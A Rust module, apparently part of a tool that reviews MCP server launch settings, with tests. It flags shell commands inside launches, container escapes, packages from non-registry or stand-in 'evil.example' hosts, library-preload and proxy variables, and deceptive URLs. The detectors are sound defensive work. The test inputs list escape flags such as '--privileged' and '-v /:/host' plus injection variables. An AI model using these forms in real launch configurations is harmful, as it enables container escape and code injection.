//! The forms of a command line, a variable or an address that can do more than start a server.
//!
//! A mark is no verdict: many a good server mounts a folder. The mark tells the person where to
//! look before saying yes. A form is judged by its letters alone; nothing is looked up.
//!
//! # Layout
//! - `program`: programs that take another program as an argument, or other rights
//! - `container`: ways out of a container
//! - `package`: packages that do not come from the usual registries
//! - `variable`: variables that steer the program they are set for

mod container;
mod package;
mod program;
mod variable;

use std::fmt;
use std::net::IpAddr;
use std::path::Path;

use kitbag_config::edit::Reach;
use serde::{Serialize, Serializer};
use url::{Host, Url};

use super::words::{is_hidden, unset, variables, visible};

/// A form, and the reason for which it is marked.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Danger {
    form: String,
    reason: &'static str,
}

impl Danger {
    pub(super) fn new(form: &str, reason: &'static str) -> Self {
        Self {
            form: visible(form),
            reason,
        }
    }
}

impl fmt::Display for Danger {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}: {}", self.form, self.reason)
    }
}

impl Serialize for Danger {
    fn serialize<S: Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
        serializer.collect_str(self)
    }
}

/// Returns everything that a person should look at twice. `project` is the folder that the launch
/// came along with.
pub fn dangers(reach: &Reach, project: Option<&Path>) -> Vec<Danger> {
    let mut found = Vec::new();
    match reach {
        Reach::Launch {
            command,
            args,
            env,
            cwd,
        } => {
            let words: Vec<String> = [command]
                .into_iter()
                .chain(args)
                .map(|word| unset(word))
                .collect();
            if !variables(command).is_empty() {
                found.push(Danger::new(
                    command,
                    "which program this is depends on a variable",
                ));
            }
            found.extend(program::dangers(&words));
            found.extend(project.and_then(|_| program::of_project(&words)));
            found.extend(container::dangers(&words));
            found.extend(package::dangers(&words));
            found.extend(env.iter().filter_map(|(name, _)| variable::danger(name)));
            found.extend(words.iter().filter_map(|word| open_address(word)));
            found.extend(words.iter().filter_map(|word| of_project(word, project?)));
            let pairs = env.iter().flat_map(|(name, value)| [name, value]);
            found.extend(
                words
                    .iter()
                    .chain(pairs)
                    .chain(cwd)
                    .filter_map(|text| hidden(text)),
            );
        }
        Reach::Remote { url, headers, .. } => {
            found.extend(address(&unset(url)));
            let pairs = headers.iter().flat_map(|(name, value)| [name, value]);
            found.extend(
                [url]
                    .into_iter()
                    .chain(pairs)
                    .filter_map(|text| hidden(text)),
            );
        }
    }
    let mut distinct = Vec::new();
    for danger in found {
        if !distinct.contains(&danger) {
            distinct.push(danger);
        }
    }
    distinct
}

/// Returns the name of a program without its folder, its ending and its version: `python` for
/// `/usr/bin/python3.12`.
fn program_name(word: &str) -> String {
    let name = word
        .rsplit(['/', '\\'])
        .next()
        .unwrap_or(word)
        .to_lowercase();
    let name = name
        .strip_suffix(".exe")
        .or_else(|| name.strip_suffix(".cmd"))
        .unwrap_or(&name);
    let name = name
        .strip_suffix(".js")
        .or_else(|| name.strip_suffix(".mjs"))
        .unwrap_or(name);
    let bare = name.trim_end_matches(|c: char| c.is_ascii_digit() || matches!(c, '.' | '-'));
    if bare.is_empty() {
        name.to_owned()
    } else {
        bare.to_owned()
    }
}

/// Returns a word that is an option, with the value behind its `=`.
fn option(word: &str) -> Option<(&str, Option<&str>)> {
    if !word.starts_with('-') || word == "-" {
        return None;
    }
    Some(
        word.split_once('=')
            .map_or((word, None), |(flag, value)| (flag, Some(value))),
    )
}

fn hidden(text: &str) -> Option<Danger> {
    text.contains(is_hidden)
        .then(|| Danger::new(text, "has characters that do not show as they are"))
}

/// Finds a server whose traffic others on the way can read and change.
fn address(text: &str) -> Vec<Danger> {
    let mut found: Vec<_> = open_address(text).into_iter().collect();
    let host_is_open = text
        .split('/')
        .nth(2)
        .is_some_and(|authority| authority.contains("${"));
    match Url::parse(text) {
        Ok(_) if host_is_open => {
            found.push(Danger::new(text, "where this leads depends on a variable"));
        }
        Ok(url) if !url.username().is_empty() => {
            found.push(Danger::new(
                text,
                "what stands before the @ is a user, not the host",
            ));
        }
        Ok(url) if url.host_str().is_some_and(|host| host.contains("xn--")) => {
            found.push(Danger::new(
                text,
                "its host has letters that may look like others",
            ));
        }
        Ok(_) => {}
        Err(_) => found.push(Danger::new(text, "where this leads cannot be told")),
    }
    found
}

fn open_address(word: &str) -> Option<Danger> {
    let at = word.to_ascii_lowercase().find("http://")?;
    let url = Url::parse(&word[at..]).ok();
    let local = url
        .as_ref()
        .and_then(Url::host)
        .is_some_and(|host| is_this_machine(&host));
    (!local).then(|| {
        Danger::new(
            &word[at..],
            "http: others on the way can read and change what is sent",
        )
    })
}

fn is_this_machine(host: &Host<&str>) -> bool {
    match host {
        Host::Domain(name) => *name == "localhost" || name.ends_with(".localhost"),
        Host::Ipv4(ip) => IpAddr::V4(*ip).is_loopback(),
        Host::Ipv6(ip) => IpAddr::V6(*ip).is_loopback(),
    }
}

fn of_project(word: &str, project: &Path) -> Option<Danger> {
    const SCRIPTS: [&str; 8] = [".js", ".mjs", ".cjs", ".ts", ".py", ".sh", ".rb", ".pl"];
    let word = option(word).and_then(|(_, value)| value).unwrap_or(word);
    let path = Path::new(word);
    let inside = path.is_absolute() && path.starts_with(project) && path != project;
    let script = SCRIPTS.iter().any(|end| word.ends_with(end)) && !word.contains("://");
    let relative =
        word.starts_with("./") || word.starts_with("../") || (script && path.is_relative());
    (inside || relative).then(|| Danger::new(word, "is a file that comes with the project"))
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Checks the forms that are marked in a command line, each word separated by `|`.
    #[track_caller]
    fn check(line: &str, expected: &[&str]) {
        let mut words = line.split('|').map(str::to_owned);
        let command = words.next().unwrap();
        let reach = Reach::Launch {
            command,
            args: words.collect(),
            env: Vec::new(),
            cwd: None,
        };
        let found = dangers(&reach, Some(Path::new("/shop")));
        let forms: Vec<_> = found.iter().map(|danger| danger.form.as_str()).collect();
        assert_eq!(forms, expected, "{line}");
    }

    #[test]
    fn an_ordinary_server_is_not_marked() {
        for line in [
            "uvx|mcp-server-time",
            "npx|-y|@modelcontextprotocol/server-filesystem@2025.1.1|/home/ann/notes",
            "npx|-y|mcp-remote|https://docs.example/mcp",
            "npx|-y|some-mcp|-c|settings.json",
            "python|/opt/server.py|-c|settings.json",
            "python3|-m|mcp_server|-c|settings.json",
            "node|/opt/server/index.js|--eval-timeout|3",
            "docker|run|-i|--rm|-e|TOKEN|-v|data:/data|--network|none|acme/server:1",
            "uv|tool|run|server",
            "x|http://127.0.0.1:8000/mcp|http://localhost/|http://[::1]:1/",
        ] {
            check(line, &[]);
        }
    }

    #[test]
    fn a_program_within_the_command_line_is_marked() {
        check("sh|-c|touch /tmp/x", &["sh -c"]);
        check("/bin/bash|-lc|x", &["bash -lc"]);
        check("bash|-o|pipefail|-c|x", &["bash -c"]);
        check("env|A=1|zsh|-c|x", &["zsh -c"]);
        check("env|-S|sh -c x", &["env -S"]);
        check("npx|-y|-c|touch x|evil", &["npx -c"]);
        check("npx|--call=touch x", &["npx --call"]);
        check("npx|--cal|touch x", &["npx --cal"]);
        check("npm|exec|-c|x", &["npm -c"]);
        check("node|-e|x", &["node -e"]);
        check(
            "node|--import|data:text/javascript,x|a.js",
            &["node --import", "a.js"],
        );
        check("python3.12|-W|ignore|-c|x", &["python -c"]);
        check("python|-Ic|x", &["python -Ic"]);
        check("uv|run|python|-c|x", &["python -c", "uv run"]);
        check("perl|-e|x", &["perl -e"]);
        check("deno|eval|x", &["deno eval"]);
        check("pwsh|-NoProfile|-enc|x", &["pwsh -enc"]);
        check("cmd.exe|/c|x", &["cmd /c"]);
        check("osascript|-e|x", &["osascript -e"]);
        check("find|.|-exec|x|;", &["find -exec"]);
        check("sudo|x", &["sudo"]);
        check("busybox|sh|-c|x", &["sh -c"]);
        check("awk|BEGIN{system(\"x\")}", &["awk"]);
        check("npx|-y|tsx|-e|x", &["tsx -e"]);
        check("uvx|python|-c|x", &["python -c"]);
        check("timeout|5|sh|-c|x", &["sh -c"]);
        check("${NONE:-sh}|${NONE:--c}|x", &["${NONE:-sh}", "sh -c"]);
        check("${SHELL}|x", &["${SHELL}"]);
        check("make|serve", &["make"]);
        check("npm|run|serve", &["npm run"]);
        check("python|server.py", &["server.py"]);
        check("./run|a", &["./run"]);
        check("node|/shop/server.js", &["/shop/server.js"]);
        check("env|LD_PRELOAD=/x|a", &["LD_PRELOAD"]);
    }

    #[test]
    fn ways_out_of_a_container_are_marked() {
        check("docker|run|--privileged|x", &["--privileged"]);
        check("docker|run|--privileged=false|x", &[]);
        check("docker|run|-v|/:/host|x", &["-v /:/host"]);
        check("docker|run|-v/:/host|x", &["-v /:/host"]);
        check("podman|run|-itv|~/.ssh:/k|x", &["-itv ~/.ssh:/k"]);
        check("docker|run|--volume=${HOME}:/h|x", &["--volume ${HOME}:/h"]);
        check(
            "docker|run|--mount|type=bind,src=/,dst=/h|x",
            &["--mount type=bind,src=/,dst=/h"],
        );
        check(
            "docker|run|--mount=src=/etc,dst=/h|x",
            &["--mount src=/etc,dst=/h"],
        );
        check("docker|run|--mount|type=volume,src=data,dst=/h|x", &[]);
        check("docker|run|--network|host|x", &["--network host"]);
        check("docker|run|--net=host|x", &["--net host"]);
        check(
            "docker|run|--pid|host|--ipc=host|x",
            &["--pid host", "--ipc host"],
        );
        check(
            "docker|run|--device|/dev/sda|--cap-add=ALL|x",
            &["--device /dev/sda", "--cap-add ALL"],
        );
        check(
            "docker|run|--security-opt|seccomp=unconfined|x",
            &["--security-opt seccomp=unconfined"],
        );
        check(
            "docker|run|-v|/var/run/docker.sock:/var/run/docker.sock|x",
            &[
                "-v /var/run/docker.sock:/var/run/docker.sock",
                "/var/run/docker.sock:/var/run/docker.sock",
            ],
        );
        check("sudo|docker|run|--privileged|x", &["sudo", "--privileged"]);
    }

    #[test]
    fn packages_from_elsewhere_are_marked() {
        check(
            "npx|-y|https://evil.example/x.tgz",
            &["https://evil.example/x.tgz"],
        );
        check("npx|mallory/evil", &["mallory/evil"]);
        check("npx|-p|github:mallory/evil|evil", &["github:mallory/evil"]);
        check("npx|good@npm:evil", &["good@npm:evil"]);
        check(
            "npx|--registry=https://evil.example|x",
            &["--registry", "https://evil.example"],
        );
        check("bunx|git+ssh://x/y", &["git+ssh://x/y"]);
        check(
            "uvx|--from|git+https://evil.example/x|x",
            &["git+https://evil.example/x"],
        );
        check(
            "uvx|--index-url|https://evil.example|x",
            &["--index-url", "https://evil.example"],
        );
        check(
            "uvx|--with|x @ https://evil.example|y",
            &["x @ https://evil.example"],
        );
        check("pipx|run|--spec|/tmp/x.whl|x", &["/tmp/x.whl"]);
        check(
            "deno|run|-A|https://evil.example/x.ts",
            &["deno run", "-A", "https://evil.example/x.ts"],
        );
        check("npx|-y|./evil", &["./evil"]);
        check("x|http://evil.example/", &["http://evil.example/"]);
        check(
            "x|--url=HTTP://localhost.evil.example/",
            &["HTTP://localhost.evil.example/"],
        );
        check("x|a\u{202e}b", &["a\\u{202e}b"]);
    }

    #[test]
    fn variables_that_steer_a_program_are_marked() {
        let marked = |name: &str| variable::danger(name).is_some();
        for name in [
            "LD_PRELOAD",
            "LD_LIBRARY_PATH",
            "DYLD_INSERT_LIBRARIES",
            "PATH",
            "Path",
            "NODE_OPTIONS",
            "PYTHONPATH",
            "PYTHONSTARTUP",
            "BASH_ENV",
            "ENV",
            "GIT_SSH_COMMAND",
            "GIT_CONFIG_COUNT",
            "npm_config_registry",
            "PIP_INDEX_URL",
            "UV_DEFAULT_INDEX",
            "https_proxy",
            "SSL_CERT_FILE",
            "PERL5OPT",
            "RUBYOPT",
            "JAVA_TOOL_OPTIONS",
            "DOCKER_HOST",
            "HOME",
            "DOTNET_STARTUP_HOOKS",
            "BASH_FUNC_x%%",
            "EDITOR",
            "NODE_TLS_REJECT_UNAUTHORIZED",
        ] {
            assert!(marked(name), "{name}");
        }
        for name in [
            "TOKEN",
            "API_KEY",
            "PATHS",
            "NODE_ENV",
            "PYTHONUNBUFFERED",
            "GITHUB_TOKEN",
            "DEBUG",
            "UVICORN_PORT",
        ] {
            assert!(!marked(name), "{name}");
        }
    }

    #[test]
    fn an_address_that_misleads_or_is_read_by_others_is_marked() {
        for (url, expected) in [
            ("https://docs.example/mcp", 0),
            ("http://127.0.0.1:3000/mcp", 0),
            ("http://docs.example/mcp", 1),
            ("https://github.com@evil.example/mcp", 1),
            ("https://docs.exam\u{440}le/mcp", 1),
            ("https://${HOST}/mcp", 1),
        ] {
            let reach = Reach::Remote {
                url: url.to_owned(),
                transport: None,
                headers: Vec::new(),
            };
            assert_eq!(dangers(&reach, None).len(), expected, "{url}");
        }
    }
}
